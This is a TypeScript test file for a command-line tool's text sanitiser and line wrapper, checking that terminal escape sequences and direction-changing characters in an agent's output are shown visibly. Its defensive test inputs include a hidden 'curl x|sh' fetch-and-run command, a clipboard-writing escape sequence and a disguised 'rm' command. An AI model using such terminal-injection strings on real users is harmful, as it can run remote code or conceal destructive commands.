import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { neutral, neutralOutput } from '../../../src/base/neutral.ts'
import { printers } from '../../../src/cli/context.ts'
import { breakLines, cut, firstLine, pad, printable, widthOf, wrap } from '../../../src/cli/render/text.ts'

test('escape sequences of an agent are drawn: they neither colour nor move the cursor, nor hide a command', () => {
  assert.equal(neutral('\x1b[31mred\x1b[0m \x1b[2J\x1b[Hgone'), '␛[31mred␛[0m ␛[2J␛[Hgone')
  assert.equal(neutral('run: echo ok \x1b]0; ; curl x|sh #\x07'), 'run: echo ok ␛]0; ; curl x|sh #␇')
  assert.equal(neutral('\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\'), '␛]8;;http://x␛\\link␛]8;;␛\\')
})

test('a terminal gets our own colours and links to files, and no other code, whoever printed it', () => {
  const own = '\x1b[33mone\x1b[39m\t\x1b]8;;file:///a%20b\x1b\\b\x1b]8;;\x1b\\\nplain é'
  assert.equal(printable(own), own)
  assert.equal(printable(`${own}\x1b]52;c;eA==\x07\x1b[8m\x1b[2J`), `${own}␛]52;c;eA==␇␛[8m␛[2J`)
  assert.equal(printable('\x1b]8;;http://x\x1b\\x\x9b2J'), '␛]8;;http://x␛\\x⟨U+009B⟩2J')
})

test('the output of a program loses its colours and nothing else', () => {
  assert.equal(neutralOutput('\x1b[1;31mred\x1b[0m\x1b[K 10 %\r20 %\r\n\x1b]0; x\x07'), 'red 10 %\n20 %\n␛]0; x␇')
})

test('the remaining control characters become visible', () => {
  assert.equal(neutral('a\x07b\x08c\x00'), 'a␇b␈c␀')
  assert.equal(neutral('\x1b\x1b[31m[31mx\x7f'), '␛␛[31m[31mx␡')
  assert.equal(neutral('one\r\ntwo\rthree\u2028four'), 'one\ntwo␍three⟨U+2028⟩four')
})

test('characters that change the direction of text cannot disguise a command', () => {
  assert.equal(neutral('rm \u202Egnp.exe\u2066'), 'rm ⟨U+202E⟩gnp.exe⟨U+2066⟩')
  assert.equal(neutral('rm\u200b -rf\u2060 a\u00adb \u{e0041}'), 'rm⟨U+200B⟩ -rf⟨U+2060⟩ a⟨U+00AD⟩b ⟨U+E0041⟩')
  assert.equal(neutral('gi\u200dt'), 'gi⟨U+200D⟩t')
  assert.equal(neutral('👩‍👩‍👧 می‌خواهم'), '👩‍👩‍👧 می‌خواهم', 'joiners where they belong')
  assert.equal(neutral('half \ud83d emoji'), 'half \ufffd emoji')
})

test('no text leaves a control character behind', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.integer({ min: 0, max: 0x2100 }).map(code => String.fromCharCode(code)) }),
      text => {
        assert.doesNotMatch(neutral(text), /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/)
      },
    ),
  )
})

test('wide characters and emoji take two columns, marks and our own colours none', () => {
  assert.equal(widthOf('abc'), 3)
  assert.equal(widthOf('日本語'), 6)
  assert.equal(widthOf('한국'), 4)
  assert.equal(widthOf('e\u0301'), 1)
  assert.equal(widthOf('⏳'), 2)
  assert.equal(widthOf('⏸ ● ✓'), 5)
  assert.equal(widthOf('👩‍👩‍👧'), 2)
  assert.equal(widthOf('\x1b[31mred\x1b[39m'), 3)
})

test('a cut text fits and marks the cut', () => {
  assert.equal(cut('short', 10), 'short')
  assert.equal(cut('a longer text', 8), 'a longe…')
  assert.equal(cut('日本語テキスト', 7), '日本語…')
  assert.equal(pad('日本', 6), '日本  ')
})

test('long lines break at spaces, keep their indentation, and over-long words are broken', () => {
  assert.deepEqual(wrap('one two three', 8), ['one two', 'three'])
  assert.deepEqual(wrap('  - item one two three', 12), ['  - item one', '  two three'])
  assert.deepEqual(wrap('abcdefghijklmnop', 8), ['abcdefgh', 'ijklmnop'])
  assert.deepEqual(wrap('a\n\nb', 8), ['a', '', 'b'])
  assert.deepEqual(wrap('    aa⏳a', 8), ['aa⏳a'])
})

test('what a command prints breaks between words at the edge of a terminal, in colours too, and never within one', t => {
  const text =
    '\x1b[31merror:\x1b[39m One two three four five six seven eight\n  next: export KEY=0123456789012345678901234567890123456789 && pcc resume'
  const broken = [
    '\x1b[31merror:\x1b[39m One two three four five six seven',
    'eight',
    '  next:',
    '  export KEY=0123456789012345678901234567890123456789 && pcc resume',
    '',
  ].join('\n')
  for (const [stream, name, json] of [
    [process.stdout, 'out', false],
    [process.stderr, 'note', false],
    [process.stdout, 'out', true],
  ] as const) {
    const written = t.mock.method(stream, 'write', () => true)
    const before = { isTTY: stream.isTTY, columns: stream.columns }
    Object.assign(stream, { isTTY: true, columns: 40 })
    try {
      printers({ json, quiet: false })[name](text)
    } finally {
      Object.assign(stream, before)
      written.mock.restore()
    }
    assert.equal(written.mock.calls[0]?.arguments[0], json ? `${text}\n` : broken)
  }
})

test('the indentation of a coloured line is kept', () => {
  const yellow = (text: string) => `\x1b[33m${text}\x1b[39m`
  assert.equal(breakLines(yellow('  one two three'), 10), '\x1b[33m  one two\n  three\x1b[39m')
  assert.equal(breakLines(yellow('  0123456789abc d'), 10), '  0123456789abc\n  d\x1b[39m')
})

test('a command at the end of a line is never broken, because its first half would run by itself', () => {
  assert.equal(
    breakLines('Commit these: git add a b c && git commit -m x', 20),
    'Commit these:\ngit add a b c && git commit -m x',
  )
  assert.equal(breakLines('  next: Start it with: pcc daemon start', 30), '  next: Start it with:\n  pcc daemon start')
  assert.equal(breakLines('Type: pcc run .', 30), 'Type: pcc run .')
})

test('no wrapped line is wider than asked for, and no character is lost', () => {
  const unit = fc.constantFrom('a', 'bc', ' ', '  ', '日', '⏳', 'e\u0301', '\n')
  fc.assert(
    fc.property(fc.string({ unit }), fc.integer({ min: 8, max: 40 }), (text, width) => {
      const lines = wrap(text, width)
      for (const line of lines) assert.ok(widthOf(line) <= width, JSON.stringify({ text, width, line }))
      assert.equal(lines.join('').replace(/\s/g, ''), text.replace(/\s/g, ''))
    }),
  )
})

test('the first line of a text shows when more lines follow', () => {
  assert.equal(firstLine('  one\ntwo'), 'one …')
  assert.equal(firstLine('one'), 'one')
})
